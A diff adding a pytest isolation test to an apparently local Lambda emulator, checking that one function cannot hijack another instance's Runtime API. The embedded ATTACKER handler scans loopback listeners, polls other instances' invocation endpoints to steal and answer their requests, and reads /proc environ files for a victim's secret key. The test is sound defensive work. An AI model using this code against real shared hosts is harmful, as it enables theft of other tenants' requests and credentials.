@@ -408,3 +408,182 @@ def test_instances_die_with_the_server(fresh_petrel, isolation):
     while instance_processes(server.data_dir) and time.time() < deadline:
         time.sleep(0.1)
     assert instance_processes(server.data_dir) == [], "instances outlived a SIGKILLed server"
+
+
+# --- Issue 12, finding 2: a function must not reach another instance's Runtime API -----------
+
+ATTACKER = r"""
+const fs = require('fs');
+const http = require('http');
+
+// Every listening TCP socket this function can see, from /proc/net/tcp and /proc/net/tcp6.
+function listeners() {
+  const found = [];
+  for (const file of ['/proc/net/tcp', '/proc/net/tcp6']) {
+    let text = '';
+    try { text = fs.readFileSync(file, 'utf8'); } catch (e) { continue; }
+    for (const line of text.split('\n').slice(1)) {
+      const f = line.trim().split(/\s+/);
+      if (f.length < 4 || f[3] !== '0A') continue;
+      const [address, port] = f[1].split(':');
+      let host = file.endsWith('6') ? '::1' : '127.0.0.1';
+      if (address.length === 8 && address !== '00000000') {
+        host = address.match(/../g).reverse().map((b) => parseInt(b, 16)).join('.');
+      }
+      found.push({ host, port: parseInt(port, 16) });
+    }
+  }
+  return found;
+}
+
+function request(host, port, method, path, body, timeoutMs) {
+  return new Promise((resolve) => {
+    const req = http.request({ host, port, method, path, agent: false, timeout: timeoutMs,
+                               headers: body ? { 'Content-Type': 'application/json' } : {} }, (res) => {
+      const chunks = [];
+      res.on('data', (c) => chunks.push(c));
+      res.on('end', () => resolve({ status: res.statusCode, headers: res.headers, body: Buffer.concat(chunks).toString() }));
+      res.on('error', (e) => resolve({ error: e.code || String(e) }));
+    });
+    req.on('timeout', () => { req.destroy(); resolve({ error: 'timeout' }); });
+    req.on('error', (e) => resolve({ error: e.code || String(e) }));
+    if (body) req.write(body);
+    req.end();
+  });
+}
+
+// Steal invocations from one listener until the deadline: ask for the next one, answer it.
+async function stealNext(target, deadline, loot) {
+  while (Date.now() < deadline) {
+    const got = await request(target.host, target.port, 'GET', '/2018-06-01/runtime/invocation/next', null,
+                              Math.max(100, deadline - Date.now()));
+    if (got.error) { loot.errors.push(`${target.port} next: ${got.error}`); if (got.error === 'timeout') return; await new Promise((r) => setTimeout(r, 50)); continue; }
+    const id = got.headers['lambda-runtime-aws-request-id'];
+    if (!id) { loot.answers.push({ port: target.port, route: 'next', status: got.status }); return; }
+    loot.stolen.push({ port: target.port, headers: got.headers, body: got.body });
+    const answered = await request(target.host, target.port, 'POST', `/2018-06-01/runtime/invocation/${id}/response`,
+                                   '"stolen"', 2000);
+    loot.answered.push({ port: target.port, status: answered.status, error: answered.error });
+  }
+}
+
+async function stealAssignment(target, deadline, loot) {
+  const got = await request(target.host, target.port, 'GET', '/2018-06-01/runtime/petrel/assignment', null,
+                            Math.max(100, deadline - Date.now()));
+  if (got.error) { loot.errors.push(`${target.port} assignment: ${got.error}`); return; }
+  if (got.status === 200) loot.stolen.push({ port: target.port, route: 'assignment', body: got.body });
+  else loot.answers.push({ port: target.port, route: 'assignment', status: got.status });
+}
+
+exports.handler = async (event) => {
+  const own = Number(process.env.AWS_LAMBDA_RUNTIME_API.split(':').pop());
+  const seen = listeners();
+  // This machine runs other people's servers too: requests go only to the listeners of the
+  // server under test (the test passes their ports); every other one is only listed.
+  const scope = new Set(event.scope);
+  const targets = seen.filter((l) => l.port !== own && (scope.size === 0 || scope.has(l.port)));
+  const loot = { stolen: [], answered: [], answers: [], errors: [] };
+  const deadline = Date.now() + event.holdMs;
+  await Promise.all(targets.flatMap((t) => [stealNext(t, deadline, loot), stealAssignment(t, deadline, loot)]));
+  // And the victim's environment, from any process this function's /proc shows.
+  for (const pid of fs.readdirSync('/proc').filter((p) => /^\d+$/.test(p))) {
+    try {
+      const environ = fs.readFileSync(`/proc/${pid}/environ`, 'latin1');
+      if (environ.includes('VICTIM_KEY')) loot.stolen.push({ pid, environ });
+    } catch (e) {}
+  }
+  const endpoint = await request('127.0.0.1', Number(new URL(process.env.AWS_ENDPOINT_URL).port), 'GET', '/', null, 3000);
+  return { own, seen: seen.map((l) => l.port), tried: targets.map((t) => t.port), endpoint: endpoint.status || endpoint.error, loot };
+};
+"""
+
+VICTIM = r"""
+exports.handler = async (event) => ({ n: event.n, secret: event.secret.length, key: process.env.VICTIM_KEY.length });
+"""
+
+
+def listening_ports_of(pid):
+    """The TCP ports process `pid` listens on (read on the host: its fds' socket inodes)."""
+    inodes = set()
+    for fd in os.listdir(f"/proc/{pid}/fd"):
+        try:
+            link = os.readlink(f"/proc/{pid}/fd/{fd}")
+        except OSError:
+            continue
+        if link.startswith("socket:["):
+            inodes.add(link[len("socket:["):-1])
+    ports = set()
+    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
+        with open(table) as f:
+            for line in f.readlines()[1:]:
+                fields = line.split()
+                if fields[3] == "0A" and fields[9] in inodes:
+                    ports.add(int(fields[1].split(":")[1], 16))
+    return ports
+
+
+@pytest.mark.parametrize("network", ["shared", "none"])
+def test_a_function_cannot_steal_another_functions_invocations(fresh_petrel, isolation, network):
+    """An attacker scans every loopback listener it can see and asks each for the next invocation
+    and for a warm-pool assignment while a victim is invoked with secrets in its events and its
+    environment: it gets nothing of the victim's, and every victim invocation succeeds."""
+    needs(isolation, "bubblewrap")
+    server = fresh_petrel() if network == "shared" else fresh_petrel("--function-network", "none")
+    line = re.search(r"isolation: .*", open(server.log_path).read()).group(0)
+    if "Runtime API" in line.partition("; missing:")[2]:
+        pytest.skip(f"this host cannot keep a Runtime API private to its instance: {line}")
+    lam = server.client("lambda")
+    key = "victim-key-" + os.urandom(8).hex()
+    create(lam, "victim", VICTIM, env={"VICTIM_KEY": key})
+    create(lam, "attacker", ATTACKER, timeout=30)
+
+    def call_victim(n, results):
+        secret = f"victim-secret-{os.urandom(8).hex()}-{n}"
+        try:
+            response, payload, _ = invoke(server.client("lambda"), "victim", {"n": n, "secret": secret})
+            results.append((n, response.get("FunctionError"), payload, len(secret)))
+        except Exception as error:  # noqa: BLE001 - any failure is a finding
+            results.append((n, "exception", repr(error), len(secret)))
+
+    def burst(first, count, results):
+        threads = [threading.Thread(target=call_victim, args=(first + i, results)) for i in range(count)]
+        for thread in threads:
+            thread.start()
+        for thread in threads:
+            thread.join()
+
+    results = []
+    burst(0, 3, results)  # a few warm victim instances, parked in GET /next
+    scope = sorted(listening_ports_of(server.proc.pid))
+    attack = {}
+
+    def run_attack():
+        try:
+            attack["response"] = invoke(server.client("lambda"), "attacker", {"scope": scope, "holdMs": 6000})
+        except Exception as error:  # noqa: BLE001
+            attack["error"] = repr(error)
+
+    attacker = threading.Thread(target=run_attack)
+    attacker.start()
+    time.sleep(1.5)  # the attacker is now parked on every listener it found
+    deadline = time.time() + 4
+    n = 100
+    while time.time() < deadline:
+        burst(n, 4, results)  # more than the warm instances: cold starts take warm-pool blanks
+        n += 10
+    attacker.join(timeout=60)
+
+    assert "error" not in attack, attack
+    response, outcome, _ = attack["response"]
+    assert not response.get("FunctionError"), outcome
+    text = json.dumps(outcome)
+    assert outcome["loot"]["stolen"] == [], text
+    assert "victim" not in text and key not in text, text
+    assert outcome["endpoint"] in (200, 400, 403, 404), "Petrel's endpoint stays reachable: " + text
+    if network == "shared":
+        others = set(outcome["seen"]) & set(scope) - {outcome["own"], server.port}
+        assert others, "the attacker saw the other instances' listeners (the test is not vacuous): " + text
+    else:
+        assert set(outcome["seen"]) <= {outcome["own"], server.port}, "only its own relays exist in its network"
+    failed = [r for r in results if r[1] or r[2] != {"n": r[0], "secret": r[3], "key": len(key)}]
+    assert failed == [] and len(results) >= 7, failed
